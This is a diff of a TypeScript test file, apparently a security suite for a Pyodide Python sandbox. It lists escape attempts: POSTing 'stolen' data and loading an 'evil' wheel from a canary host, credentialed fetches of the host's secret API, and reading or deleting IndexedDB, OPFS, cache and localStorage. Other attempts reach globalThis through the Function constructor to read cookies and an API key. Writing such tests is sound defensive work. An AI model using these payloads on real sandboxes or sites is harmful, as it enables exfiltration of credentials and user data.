@@ -67,7 +67,8 @@ export const ESCAPE_ATTEMPTS: EscapeAttempt[] = [
   },
   {
     name: 'a POST with data through js.fetch (no-cors)',
-    code: (t) => `import js\nfrom pyodide.ffi import to_js\nr = await js.fetch("${t.canary}/post", to_js({"method": "POST", "mode": "no-cors", "body": "stolen"}, dict_converter=js.Object.fromEntries))\nprint(r.type)`,
+    code: (t) =>
+      `import js\nfrom pyodide.ffi import to_js\nr = await js.fetch("${t.canary}/post", to_js({"method": "POST", "mode": "no-cors", "body": "stolen"}, dict_converter=js.Object.fromEntries))\nprint(r.type)`,
   },
   {
     name: 'a synchronous XMLHttpRequest to the canary',
@@ -98,7 +99,8 @@ export const ESCAPE_ATTEMPTS: EscapeAttempt[] = [
   },
   {
     name: 'a nested Worker from the canary',
-    code: (t) => `import js, asyncio\nw = js.Worker.new("${t.canary}/worker.js")\nawait asyncio.sleep(1)\nraise ConnectionError("constructed; the canary decides")`,
+    code: (t) =>
+      `import js, asyncio\nw = js.Worker.new("${t.canary}/worker.js")\nawait asyncio.sleep(1)\nraise ConnectionError("constructed; the canary decides")`,
   },
   {
     name: 'a nested blob: Worker (a fresh realm with the original fetch) reaching out',
@@ -134,7 +136,8 @@ if not any(r["ok"] for r in report): raise PermissionError("everything was block
   },
   {
     name: "Python's socket module to the canary's port",
-    code: (t) => `import socket\nport = int("${t.canary}".split(":")[2].split("/")[0])\ns = socket.create_connection(("127.0.0.1", port), timeout=2)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")`,
+    code: (t) =>
+      `import socket\nport = int("${t.canary}".split(":")[2].split("/")[0])\ns = socket.create_connection(("127.0.0.1", port), timeout=2)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")`,
   },
   {
     name: "Python's urllib.request.urlopen of the canary",
@@ -153,13 +156,14 @@ if not any(r["ok"] for r in report): raise PermissionError("everything was block
     code: (t) => `import micropip\nawait micropip.install("${t.canary}/evil-1.0-py3-none-any.whl")\nimport evil`,
   },
   {
-    name: "pyodide_js.loadPackage of a wheel URL on the canary",
+    name: 'pyodide_js.loadPackage of a wheel URL on the canary',
     code: (t) =>
       `import pyodide_js, js\nawait pyodide_js.loadPackage("${t.canary}/evil-1.0-py3-none-any.whl")\nif "evil" not in list(js.Object.keys(pyodide_js.loadedPackages)): raise ImportError("loadPackage did not load the wheel")`,
   },
   {
     name: 'a data: URL module whose code fetches the canary',
-    code: (t) => `import js\nsrc = "await fetch('${t.canary}/data-module'); const x = new XMLHttpRequest(); x.open('GET', '${t.canary}/data-module-xhr', false); x.send();"\nawait js.eval("import('data:text/javascript,' + encodeURIComponent(" + repr(src) + "))")`,
+    code: (t) =>
+      `import js\nsrc = "await fetch('${t.canary}/data-module'); const x = new XMLHttpRequest(); x.open('GET', '${t.canary}/data-module-xhr', false); x.send();"\nawait js.eval("import('data:text/javascript,' + encodeURIComponent(" + repr(src) + "))")`,
   },
   {
     name: 'a blob: URL module whose code fetches the canary',
@@ -176,11 +180,13 @@ if not any(r["ok"] for r in report): raise PermissionError("everything was block
   // --- the host origin's credentials and storage ----------------------------------------------
   {
     name: "a credentialed fetch to the host origin's API",
-    code: (t) => `import js\nfrom pyodide.ffi import to_js\nr = await js.fetch("${t.host}/api/secret", to_js({"credentials": "include"}, dict_converter=js.Object.fromEntries))\nprint(r.status, await r.text())`,
+    code: (t) =>
+      `import js\nfrom pyodide.ffi import to_js\nr = await js.fetch("${t.host}/api/secret", to_js({"credentials": "include"}, dict_converter=js.Object.fromEntries))\nprint(r.status, await r.text())`,
   },
   {
     name: "a credentialed XMLHttpRequest to the host origin's API",
-    code: (t) => `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${t.host}/api/secret", False)\nx.withCredentials = True\nx.send()\nprint(x.status, x.responseText)`,
+    code: (t) =>
+      `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${t.host}/api/secret", False)\nx.withCredentials = True\nx.send()\nprint(x.status, x.responseText)`,
   },
   {
     name: "the host origin's IndexedDB (read, write, delete)",
@@ -193,11 +199,13 @@ js.indexedDB.deleteDatabase("secrets")`,
   },
   {
     name: "the host origin's Cache Storage (read and write)",
-    code: () => `import js\nprint(await js.caches.keys())\ncache = await js.caches.open("secrets")\nr = await cache.match("/secret-cache-entry")\nprint(await r.text())\nawait cache.put("/secret-cache-entry", js.Response.new("overwritten"))`,
+    code: () =>
+      `import js\nprint(await js.caches.keys())\ncache = await js.caches.open("secrets")\nr = await cache.match("/secret-cache-entry")\nprint(await r.text())\nawait cache.put("/secret-cache-entry", js.Response.new("overwritten"))`,
   },
   {
     name: "the host origin's OPFS (navigator.storage.getDirectory)",
-    code: () => `import js\nroot = await js.navigator.storage.getDirectory()\nf = await (await root.getFileHandle("secret.txt")).getFile()\nprint(await f.text())\nawait root.removeEntry("secret.txt")`,
+    code: () =>
+      `import js\nroot = await js.navigator.storage.getDirectory()\nf = await (await root.getFileHandle("secret.txt")).getFile()\nprint(await f.text())\nawait root.removeEntry("secret.txt")`,
   },
   {
     name: "the host origin's localStorage",
@@ -242,7 +250,8 @@ print("\\n".join(s for s in seen if "SECRET" in s or "APIKEY" in s.upper()))`,
   {
     name: 'a BroadcastChannel message to every tab of the host origin',
     expect: 'harmless',
-    code: () => `import js\nfor name in ["python-sandbox", "escape", "secrets", "host", ""]:\n    bc = js.BroadcastChannel.new(name)\n    bc.postMessage("FORGED-broadcast")\n    bc.close()`,
+    code: () =>
+      `import js\nfor name in ["python-sandbox", "escape", "secrets", "host", ""]:\n    bc = js.BroadcastChannel.new(name)\n    bc.postMessage("FORGED-broadcast")\n    bc.close()`,
   },
   {
     name: 'postMessage of forged protocol messages to the parent (js.postMessage)',
@@ -270,16 +279,19 @@ for message in [
   },
   {
     name: 'pyodide_js.constructor.constructor reaching the global and its XMLHttpRequest',
-    code: (t) => `import pyodide_js\nglobal_this = pyodide_js.constructor.constructor("return globalThis")()\nx = global_this.XMLHttpRequest.new()\nx.open("GET", "${t.canary}/pyodide-js-constructor", False)\nx.send()\nprint(x.responseText)`,
+    code: (t) =>
+      `import pyodide_js\nglobal_this = pyodide_js.constructor.constructor("return globalThis")()\nx = global_this.XMLHttpRequest.new()\nx.open("GET", "${t.canary}/pyodide-js-constructor", False)\nx.send()\nprint(x.responseText)`,
   },
   {
     name: 'a JsProxy of a function (js.setTimeout.constructor) building fetch-free network code',
-    code: (t) => `import js\nf = js.setTimeout.constructor("const x = new XMLHttpRequest(); x.open('GET', '${t.host}/api/secret', false); x.withCredentials = true; x.send(); return x.responseText")\nprint(f())`,
+    code: (t) =>
+      `import js\nf = js.setTimeout.constructor("const x = new XMLHttpRequest(); x.open('GET', '${t.host}/api/secret', false); x.withCredentials = true; x.send(); return x.responseText")\nprint(f())`,
   },
   {
     name: 'the Function constructor reading cookie, localStorage and the API key',
     expect: 'harmless',
-    code: () => `import pyodide_js\nprint(pyodide_js.constructor.constructor("return [self.document && document.cookie, self.localStorage && localStorage.getItem('secret'), self.parent && parent.__apiKey, self.__apiKey].join()")())`,
+    code: () =>
+      `import pyodide_js\nprint(pyodide_js.constructor.constructor("return [self.document && document.cookie, self.localStorage && localStorage.getItem('secret'), self.parent && parent.__apiKey, self.__apiKey].join()")())`,
   },
   {
     name: 'the Function constructor opening the host IndexedDB',
